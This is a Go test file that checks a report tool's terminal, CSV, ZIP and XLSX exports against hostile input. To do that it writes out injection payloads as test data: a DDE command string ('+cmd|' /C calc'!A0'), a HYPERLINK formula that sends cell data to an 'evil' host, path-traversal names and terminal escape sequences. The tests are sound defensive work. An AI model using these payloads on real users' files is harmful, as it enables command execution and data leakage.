package report_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/fieldworkhq/fieldwork/internal/aggregate"
	"github.com/fieldworkhq/fieldwork/internal/report"
)

// controlText is what a note, name or framework text can carry to attack
// a terminal: clear screen, retitle, a C1 CSI, a bidi override and isolate,
// and a newline and tab that would fake a row or a column.
const controlText = "x\x1b[2J\x1b]0;pwned\x07\u009b1A\u202eevil\u2066\nforged\trow"

func noControls(t *testing.T, what, s string) {
	t.Helper()
	for _, b := range []string{"\x1b", "\x07", "\u009b", "\u202e", "\u2066"} {
		if strings.Contains(s, b) {
			t.Errorf("%s holds %q raw", what, b)
		}
	}
}

func TestTerminal_EscapesControlCharacters(t *testing.T) {
	r, _ := gwentReport(t)
	var plain bytes.Buffer
	if err := report.Terminal(&plain, r); err != nil {
		t.Fatal(err)
	}
	r.InspectionName += controlText
	r.Standards[0].Title = controlText
	r.Questions[0].Text = controlText
	r.Questions[len(r.Questions)-1].Text = controlText
	r.Profile[0].Values[0].Value = controlText
	r.Breakdowns[0].Values[0] = controlText
	r.Breakdowns[0].Rows[0].ID = controlText
	r.InspectorProgress[0].Inspector = controlText
	r.CaseProgress[0].Ref = controlText
	var buf bytes.Buffer
	if err := report.Terminal(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	noControls(t, "the terminal report", out)
	if got, want := strings.Count(out, "\n"), strings.Count(plain.String(), "\n"); got != want {
		t.Errorf("the report has %d lines, %d without the hostile text: a newline got through", got, want)
	}
	if !strings.Contains(out, `\u001b[2J`) || !strings.Contains(out, `\u202e`) {
		t.Errorf("the escapes are not shown visibly:\n%s", out)
	}
}

// hostileReport is the Gwent report with formula-like text in every kind of
// text cell and breakdowns by hostile and long attribute names.
func hostileReport(t *testing.T) (*aggregate.Report, []string) {
	r, _ := gwentReport(t)
	r.Units = []string{"=HYPERLINK(\"http://evil/\"&A1)"}
	r.Profile[0].Values[0].Value = "=1+1"
	r.Profile[0].Values[1].Value = "+cmd|' /C calc'!A0"
	r.CaseProgress[0].Ref = "-2+3"
	r.CaseProgress[1].Ref = "@SUM(A1)"
	r.CaseProgress[2].Ref = "\t=1"
	r.CaseProgress[3].Ref = "\r=1"
	r.InspectorProgress[0].Inspector = "=cmd"
	r.Standards[0].Title = "-title"
	attrs := []string{
		"x/../../escape",
		"../../../../tmp/owned",
		`..\..\win`,
		".hidden",
		"sheet:*?[]name",
		"accommodation_status_at_start_of_order", // shares 31 characters with the next
		"accommodation_status_at_start_of_licence",
		"Accommodation_status_at_start_of_licence", // differs only in case
		"pdu/" + strings.Repeat("long", 80),
		"ünïcode name",
		"=formula",
	}
	base := r.Breakdowns[0]
	r.Breakdowns = nil
	for _, a := range attrs {
		b := base
		b.Attribute, b.Title = a, a // the XLSX heads the column with the title
		r.Breakdowns = append(r.Breakdowns, b)
	}
	return r, attrs
}

func readCSV(t *testing.T, rd io.Reader) [][]string {
	t.Helper()
	cr := csv.NewReader(rd)
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// checkNeutral fails on any cell a spreadsheet would read as a formula,
// except numbers fieldwork wrote.
func checkNeutral(t *testing.T, file string, rows [][]string) {
	t.Helper()
	for ri, row := range rows {
		for ci, c := range row {
			if c == "" || !strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				continue
			}
			t.Errorf("%s row %d column %d = %q: starts like a formula", file, ri+1, ci+1, c)
		}
	}
}

func TestCSV_CellsCannotBeFormulas(t *testing.T) {
	r, attrs := hostileReport(t)
	_, fw := gwentReport(t)
	dir := filepath.Join(t.TempDir(), "annexe")
	if err := report.ExportCSV(dir, r, fw); err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "*.csv"))
	all := map[string]bool{}
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		rows := readCSV(t, bytes.NewReader(data))
		checkNeutral(t, filepath.Base(f), rows)
		for _, row := range rows {
			for _, c := range row {
				all[c] = true
			}
		}
	}
	for _, want := range []string{"'=1+1", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "'=cmd", "'-title", "'" + attrs[len(attrs)-1]} {
		if !all[want] {
			t.Errorf("no cell %q: the text is not kept behind its quote", want)
		}
	}
	// Our own numbers stay numbers (the golden files hold the rest).
	grid := readCSV(t, mustOpen(t, filepath.Join(dir, "ratings_grid.csv")))
	if grid[len(grid)-1][4] != "4" {
		t.Errorf("score cell = %q, want 4", grid[len(grid)-1][4])
	}
}

func mustOpen(t *testing.T, path string) io.Reader {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.NewReader(data)
}

// breakdownAttrs returns the attribute each breakdown table names in its
// second header cell.
func breakdownAttr(rows [][]string) string {
	for _, row := range rows { // CSV's header, or the XLSX headings under the title block
		if len(row) > 2 && strings.EqualFold(row[0], "question") && strings.EqualFold(row[2], "yes") {
			return strings.TrimPrefix(row[1], "'")
		}
	}
	return ""
}

func TestCSV_FolderNamesStayInside(t *testing.T) {
	r, attrs := hostileReport(t)
	_, fw := gwentReport(t)
	top := t.TempDir()
	dir := filepath.Join(top, "a", "annexe")
	if err := report.ExportCSV(dir, r, fw); err != nil {
		t.Fatal(err)
	}
	// Nothing outside the folder: the whole temp tree is the folder and its parents.
	var got []string
	filepath.WalkDir(top, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			t.Fatal(err)
		}
		if !d.IsDir() && filepath.Dir(p) != dir {
			t.Errorf("export wrote %s, outside %s", p, dir)
		}
		if !d.IsDir() {
			got = append(got, d.Name())
			fi, _ := d.Info()
			if fi.Mode().Perm() != 0o600 {
				t.Errorf("%s mode %v, want 0600", d.Name(), fi.Mode().Perm())
			}
		}
		return nil
	})
	for _, d := range []string{filepath.Join(top, "a"), dir} {
		if fi, err := os.Stat(d); err != nil || fi.Mode().Perm() != 0o700 {
			t.Errorf("folder %s mode = %v, %v; want 0700", d, fi.Mode().Perm(), err)
		}
	}
	for _, name := range got {
		if strings.HasPrefix(name, ".") || len(name) > 104 || strings.ContainsAny(name, `/\:*?[] `) {
			t.Errorf("file name %q is not a safe name", name)
		}
	}
	var found []string
	for _, name := range got {
		if strings.HasSuffix(name, ".csv") {
			found = append(found, breakdownAttr(readCSV(t, mustOpen(t, filepath.Join(dir, name)))))
		}
	}
	for _, a := range attrs {
		if !slices.Contains(found, a) {
			t.Errorf("no file holds the breakdown by %q (files: %v)", a, got)
		}
	}
}

func TestCSV_ZipEntriesStayInside(t *testing.T) {
	r, attrs := hostileReport(t)
	_, fw := gwentReport(t)
	out := filepath.Join(t.TempDir(), "annexe.zip")
	if err := report.ExportCSV(out, r, fw); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(out); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("zip mode = %v, %v; want 0600", fi.Mode().Perm(), err)
	}
	zr, err := zip.OpenReader(out)
	if err != nil {
		t.Fatal(err)
	}
	defer zr.Close()
	seen := map[string]bool{}
	var found []string
	for _, f := range zr.File {
		if strings.ContainsAny(f.Name, `/\`) || strings.HasPrefix(f.Name, ".") || !filepath.IsLocal(f.Name) {
			t.Errorf("zip entry %q can climb out of the folder it is unpacked in", f.Name)
		}
		if seen[strings.ToLower(f.Name)] {
			t.Errorf("zip entry %q twice", f.Name)
		}
		seen[strings.ToLower(f.Name)] = true
		if f.Mode().Perm() != 0o600 {
			t.Errorf("zip entry %s mode %v, want 0600", f.Name, f.Mode().Perm())
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(f.Name, ".csv") {
			rows := readCSV(t, rc)
			checkNeutral(t, f.Name, rows)
			found = append(found, breakdownAttr(rows))
		}
		rc.Close()
	}
	for _, a := range attrs {
		if !slices.Contains(found, a) {
			t.Errorf("no zip entry holds the breakdown by %q", a)
		}
	}
}

func TestXLSX_SheetNamesValidAndDistinct(t *testing.T) {
	r, attrs := hostileReport(t)
	_, fw := gwentReport(t)
	out := filepath.Join(t.TempDir(), "annexe.xlsx")
	if err := report.WriteFile(out, func(w io.Writer) error { return report.ExportXLSX(w, r, fw) }); err != nil {
		t.Fatal(err)
	}
	if fi, err := os.Stat(out); err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("xlsx mode = %v, %v; want 0600", fi.Mode().Perm(), err)
	}
	f, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	sheets := f.GetSheetList()
	if want := len(report.Tables(r)) + 1; len(sheets) != want {
		t.Errorf("%d sheets, want %d (one per table and method): %v", len(sheets), want, sheets)
	}
	lower := map[string]bool{}
	var found []string
	for _, s := range sheets {
		if len([]rune(s)) > 31 || strings.ContainsAny(s, `[]:*?/\`) || strings.HasPrefix(s, "'") || strings.HasSuffix(s, "'") {
			t.Errorf("sheet name %q is not valid in Excel", s)
		}
		if lower[strings.ToLower(s)] {
			t.Errorf("sheet name %q twice (ignoring case)", s)
		}
		lower[strings.ToLower(s)] = true
		rows, err := f.GetRows(s)
		if err != nil {
			t.Fatal(err)
		}
		found = append(found, breakdownAttr(rows))
	}
	for _, a := range attrs {
		if !slices.Contains(found, a) {
			t.Errorf("no sheet holds the breakdown by %q", a)
		}
	}
	if sheets[len(sheets)-1] != "method" {
		t.Errorf("last sheet %q, want method", sheets[len(sheets)-1])
	}
}

func TestXLSX_FormulaLikeTextIsAStringCell(t *testing.T) {
	r, _ := hostileReport(t)
	_, fw := gwentReport(t)
	var buf bytes.Buffer
	if err := report.ExportXLSX(&buf, r, fw); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	checked := 0
	for _, sheet := range []string{"sample_profile", "completeness_cases", "completeness_inspectors"} {
		rows, _ := f.GetRows(sheet)
		for ri, row := range rows {
			for ci, v := range row {
				if v == "" || !strings.ContainsRune("=+-@\t\r", rune(v[0])) {
					continue
				}
				cell, _ := excelize.CoordinatesToCellName(ci+1, ri+1)
				typ, _ := f.GetCellType(sheet, cell)
				if typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
					t.Errorf("%s!%s %q has cell type %v, want a string", sheet, cell, v, typ)
				}
				if formula, _ := f.GetCellFormula(sheet, cell); formula != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, cell, formula)
				}
				checked++
			}
		}
	}
	if checked < 5 {
		t.Fatalf("checked %d formula-like cells, want the 5+ planted", checked)
	}
}

func TestExport_RefusesSymlinks(t *testing.T) {
	r, fw := gwentReport(t)
	dir := t.TempDir()
	victim := filepath.Join(dir, "victim")
	os.WriteFile(victim, []byte("keep"), 0o644)
	unchanged := func() {
		t.Helper()
		if data, _ := os.ReadFile(victim); string(data) != "keep" {
			t.Errorf("the export wrote through a symlink: victim now %q", data)
		}
	}

	// A symlink planted at one of the folder's files.
	annexe := filepath.Join(dir, "annexe")
	os.Mkdir(annexe, 0o700)
	os.Symlink(victim, filepath.Join(annexe, "key_questions.csv"))
	if err := report.ExportCSV(annexe, r, fw); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("export over a symlinked file: err = %v, want a refusal", err)
	}
	unchanged()

	// The folder itself a symlink.
	elsewhere := filepath.Join(dir, "elsewhere")
	os.Mkdir(elsewhere, 0o700)
	os.Symlink(elsewhere, filepath.Join(dir, "linked"))
	if err := report.ExportCSV(filepath.Join(dir, "linked"), r, fw); err == nil || !strings.Contains(err.Error(), "symbolic link") {
		t.Errorf("export into a symlinked folder: err = %v, want a refusal", err)
	}
	if ents, _ := os.ReadDir(elsewhere); len(ents) > 0 {
		t.Errorf("the export wrote %d file(s) through the symlinked folder", len(ents))
	}

	// A symlink at a zip, XLSX or HTML target.
	for _, name := range []string{"a.zip", "a.xlsx", "a.html"} {
		link := filepath.Join(dir, name)
		os.Symlink(victim, link)
		var err error
		switch filepath.Ext(name) {
		case ".zip":
			err = report.ExportCSV(link, r, fw)
		case ".xlsx":
			err = report.WriteFile(link, func(w io.Writer) error { return report.ExportXLSX(w, r, fw) })
		default:
			err = report.WriteFile(link, func(w io.Writer) error { return report.ExportHTML(w, r, fw) })
		}
		if err == nil || !strings.Contains(err.Error(), "symbolic link") {
			t.Errorf("%s over a symlink: err = %v, want a refusal", name, err)
		}
		unchanged()
	}
	// No temporary file is left behind.
	ents, _ := os.ReadDir(dir)
	for _, e := range ents {
		if strings.HasPrefix(e.Name(), ".fieldwork") {
			t.Errorf("left %s behind", e.Name())
		}
	}
}

func TestExport_ReplacesEarlierExportAs0600(t *testing.T) {
	r, fw := gwentReport(t)
	dir := t.TempDir()
	old := filepath.Join(dir, "annexe.html")
	os.WriteFile(old, []byte("old"), 0o644)
	if err := report.WriteFile(old, func(w io.Writer) error { return report.ExportHTML(w, r, fw) }); err != nil {
		t.Fatal(err)
	}
	fi, err := os.Stat(old)
	if err != nil || fi.Mode().Perm() != 0o600 || fi.Size() < 1000 {
		t.Errorf("re-export: mode %v size %d (%v), want 0600 and the new page", fi.Mode().Perm(), fi.Size(), err)
	}
}
